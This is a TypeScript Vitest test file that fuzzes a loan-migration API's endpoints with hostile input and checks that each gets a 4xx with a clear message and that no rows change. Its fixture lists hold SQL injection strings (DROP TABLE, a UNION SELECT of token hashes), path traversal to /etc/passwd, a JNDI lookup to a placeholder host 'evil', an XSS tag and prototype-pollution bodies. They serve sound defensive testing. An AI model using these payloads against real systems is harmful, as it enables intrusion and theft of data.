// Hostile input against every endpoint (ids with quotes, SQL, control characters, very long strings,
// unicode and broken percent-encoding; malformed JSON, wrong types, unknown fields, arrays and
// primitives; bad query strings; bad tokens): always a 4xx with a clear JSON message, never a 5xx, and
// no data row changes (the audit log aside, which records the refused mutating calls).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import pg from 'pg';
import { createTestDatabase, type TestDatabase } from '../../support/database.ts';
import { startTestProcess, waitForCatchUp, configFor } from '../../support/pipeline.ts';
import { call, makeTokens, type Tokens } from '../../support/http.ts';
import { registeredRoutes } from '../../support/routes.ts';
import { generateLegacyData, insertLegacyData } from '../../../services/testdata/generator.ts';
import type { RunningProcess } from '../../../services/orchestrator/process-runner.ts';

let db: TestDatabase;
let proc: RunningProcess | undefined;
let tokens: Tokens;
const data = generateLegacyData({ seed: 51, juntas: 3, loansPerJunta: 10 });

// Path segments as they go on the wire (already percent-encoded where needed).
const HOSTILE_IDS: string[] = [
  encodeURIComponent(`' OR '1'='1`),
  encodeURIComponent(`1; DROP TABLE "Prestamo"; --`),
  encodeURIComponent(`"); DELETE FROM "PrestamoNew"; --`),
  encodeURIComponent(`x' UNION SELECT token_hash FROM prestamos_cdc.api_tokens --`),
  '%00',
  'abc%00def',
  '%0A',
  'a%0Db',
  '%20leading',
  'trailing%20',
  'a'.repeat(201),
  'b'.repeat(5000),
  encodeURIComponent('préstamo-ñ-💥'),
  encodeURIComponent('\u202Egnp.exe'),
  encodeURIComponent('../../etc/passwd'),
  encodeURIComponent('${jndi:ldap://evil/x}'),
  encodeURIComponent('<script>alert(1)</script>'),
  encodeURIComponent('%'),
  encodeURIComponent('_'),
  '%E0%A4%A',
  '%F0%9F',
  '%ED%A0%80',
  '%FF',
  'null',
  '-1',
  '0',
  '9'.repeat(30),
];

// Raw bodies, sent as application/json unless a content type is given.
const HOSTILE_BODIES: { raw: string; contentType?: string }[] = [
  { raw: '{' },
  { raw: '{"to": }' },
  { raw: 'nul' },
  { raw: '"new"' },
  { raw: '42' },
  { raw: 'true' },
  { raw: 'null' },
  { raw: '[]' },
  { raw: '[{"to":"new"}]' },
  { raw: '{"to": 1}' },
  { raw: '{"to": ["new"]}' },
  { raw: '{"to": {"$ne": null}}' },
  { raw: '{"to": "new\'; DROP TABLE \\"Prestamo\\"; --"}' },
  { raw: '{"__proto__": {"admin": true}, "to": "sideways"}' },
  { raw: '{"constructor": {"prototype": {"x": 1}}}' },
  { raw: '{"reason": 123, "waitSeconds": "30"}' },
  { raw: '{"waitSeconds": 1e309}' },
  { raw: '{"waitSeconds": -1}' },
  { raw: '{"waitSeconds": 121}' },
  { raw: '{"reason": ""}' },
  { raw: `{"reason": "${'r'.repeat(600)}"}` },
  { raw: '{"seed": 1.5}' },
  { raw: '{"seed": "1"}' },
  { raw: '{"seed": 99999999999999999999}' },
  { raw: '{"seed": 1, "juntas": 50, "loansPerJunta": 500}' },
  { raw: '{"seed": 1, "juntas": 0}' },
  { raw: '{"note": "   "}' },
  { raw: '{"note": null}' },
  { raw: '{"unexpected": true}' },
  { raw: '{"a":'.repeat(5000) + '1' + '}'.repeat(5000) },
  { raw: '['.repeat(20000) + ']'.repeat(20000) },
  { raw: `{"reason": "${'x'.repeat(120_000)}"}` },
  { raw: '{"to":"new"}', contentType: 'text/plain' },
  { raw: '{"to":"new"}', contentType: 'application/x-www-form-urlencoded' },
  { raw: '{"to":"new"}', contentType: 'application/json; charset=utf-16' },
  { raw: '\u0000{"to":"new"}' },
  { raw: '{"to":"\\ud800"}' },
];

const HOSTILE_QUERIES = [
  '?limit=abc',
  '?limit=-5',
  '?limit=0',
  '?limit=1e3',
  '?limit=99999999999',
  '?limit=1&limit=2',
  '?limit[]=1',
  '?limit=%00',
  `?limit=${encodeURIComponent("1; DROP TABLE x")}`,
  '?status=open%27%20OR%201%3D1',
  '?before=0',
  '?before=-1',
  '?action=x%3Bdrop',
  '?__proto__=x',
  '?unknown=1',
];

const BAD_TOKENS = [
  `Bearer ' OR 1=1 --`,
  'Bearer pcdc_1_' + 'A'.repeat(43) + "'",
  'Bearer pcdc_9999999999999999999_' + 'A'.repeat(43),
  'Bearer pcdc_999999999999999999_' + 'A'.repeat(43),
  'Bearer ' + 'x'.repeat(10_000),
  'Basic YWRtaW46YWRtaW4=',
  'Bearer',
  'bearer  pcdc_1_%00',
];

async function fingerprint(): Promise<Record<string, string>> {
  const tables: [string, string][] = [
    ['"Junta"', 'id'],
    ['"Prestamo"', 'id'],
    ['"PagoPrestamo"', 'id'],
    ['"Accion"', 'id'],
    ['"Multa"', 'id'],
    ['"PrestamoNew"', 'id'],
    ['"PagoPrestamoNew"', 'id'],
    ['capital_movements', 'id'],
    ['prestamos_cdc.row_state', 'source_table, row_id'],
    ['prestamos_cdc.rolled_back_loans', 'prestamo_id'],
    ['prestamos_cdc.control', 'id'],
    ['prestamos_cdc.pipeline', 'name'],
    ['prestamos_cdc.snapshot_requests', 'id'],
    ['prestamos_cdc.failed_records', 'id'],
    ['prestamos_cdc.schema_migrations', 'name'],
  ];
  const out: Record<string, string> = {};
  for (const [t, order] of tables) {
    const r = await db.query<{ n: string; h: string | null }>(`SELECT count(*)::text AS n, md5(string_agg(x::text, '|' ORDER BY ${order})) AS h FROM ${t} x`);
    out[t] = `${r.rows[0]!.n}:${r.rows[0]!.h ?? ''}`;
  }
  const tok = await db.query<{ h: string }>(`SELECT md5(string_agg(id || role || token_hash || coalesce(revoked_at::text, ''), '|' ORDER BY id)) AS h FROM prestamos_cdc.api_tokens`);
  out.api_tokens = tok.rows[0]!.h;
  const views = await db.query<{ h: string }>(`SELECT md5(string_agg(definition, '|' ORDER BY viewname)) AS h FROM pg_views WHERE schemaname = 'prestamos_read'`);
  out.read_routing = views.rows[0]!.h;
  return out;
}

beforeAll(async () => {
  db = await createTestDatabase('migrated');
  const pool = new pg.Pool({ connectionString: db.url, max: 2 });
  await insertLegacyData(pool, data);
  await pool.end();
  tokens = await makeTokens(db);
  proc = await startTestProcess(db, { config: configFor(db, { ENABLE_TEST_DATA: 'true' }) });
  expect((await call(proc.url, 'POST', '/prestamos/migration/start', { token: tokens.admin })).status).toBe(202);
  await waitForCatchUp(db);
  // a failed record, so that /failed/:id routes have something real next to the hostile ids
  await db.query(`INSERT INTO prestamos_cdc.failed_records (source_table, row_id, error, error_code) VALUES ('Prestamo', $1, 'test', 'test')`, [data.prestamos[0]!.id]);
});
afterAll(async () => {
  await proc?.stop();
  await db?.drop();
});

describe('hostile input', () => {
  it('gets a 4xx with a clear message from every endpoint, and changes no row', async () => {
    const routes = registeredRoutes();
    const before = await fingerprint();
    const auditBefore = Number((await db.query(`SELECT count(*) AS n FROM prestamos_cdc.audit_log`)).rows[0]!.n);
    const failures: string[] = [];
    let requests = 0;
    let mutating = 0;
    const check = async (method: string, path: string, o: Parameters<typeof call>[3], what: string) => {
      requests++;
      if (method === 'POST') mutating++;
      let r;
      try {
        r = await call(proc!.url, method, path, o);
      } catch (err) {
        failures.push(`${what}: request failed: ${(err as Error).message}`);
        return;
      }
      const clear = r.body && typeof r.body.error === 'string' && r.body.error.length > 0 && r.body.error !== 'internal error';
      if (r.status < 400 || r.status >= 500 || !clear) failures.push(`${what}: ${r.status} ${r.text.slice(0, 200)}`);
    };
    for (const route of routes) {
      const isPublic = ['/healthz', '/readyz', '/metrics', '/prestamos/openapi.json'].includes(route.path);
      if (isPublic) continue;
      const isMutating = route.method === 'POST';
      // hostile ids
      if (route.path.includes(':id')) {
        for (const id of HOSTILE_IDS) {
          const path = route.path.replace(':id', id);
          await check(route.method, path, { token: tokens.admin }, `${route.method} ${route.path} id=${id.slice(0, 40)}`);
        }
      }
      const validPath = route.path.replace(':id', route.path.includes('/failed/') ? '1' : 'no-such-loan');
      // hostile bodies
      if (isMutating) {
        for (const b of HOSTILE_BODIES) {
          await check(route.method, validPath, { token: tokens.admin, raw: b.raw, contentType: b.contentType }, `${route.method} ${validPath} body=${b.raw.slice(0, 40)} (${b.contentType ?? 'json'})`);
        }
      } else {
        for (const q of HOSTILE_QUERIES) {
          await check(route.method, validPath + q, { token: tokens.admin }, `${route.method} ${validPath}${q}`);
        }
      }
      // hostile tokens
      for (const t of BAD_TOKENS) {
        await check(route.method, validPath, { headers: { authorization: t, 'x-request-id': `'; DROP TABLE x; --` } }, `${route.method} ${validPath} authorization=${t.slice(0, 30)}`);
      }
    }
    expect(failures).toEqual([]);
    expect(requests).toBeGreaterThan(400);
    expect(await fingerprint()).toEqual(before);
    // every refused mutating call was audited once, even those refused before reaching their handler
    const auditAfter = Number((await db.query(`SELECT count(*) AS n FROM prestamos_cdc.audit_log`)).rows[0]!.n);
    expect(auditAfter - auditBefore).toBe(mutating);
    const health = await call(proc!.url, 'GET', '/readyz');
    expect(health.status).toBe(200);
  });

  it('stores text that looks like SQL as text', async () => {
    const reason = `'); DROP TABLE "Prestamo"; --`;
    const r = await call(proc!.url, 'POST', '/prestamos/migration/pause', { token: tokens.operator, json: { reason } });
    expect(r.status).toBe(200);
    expect(r.body.reason).toBe(reason);
    expect((await db.query(`SELECT reason FROM prestamos_cdc.control`)).rows[0]!.reason).toBe(reason);
    expect((await db.query(`SELECT count(*)::int AS n FROM "Prestamo"`)).rows[0]!.n).toBe(data.prestamos.length);
    expect((await call(proc!.url, 'POST', '/prestamos/migration/resume', { token: tokens.operator })).status).toBe(200);
  });
});
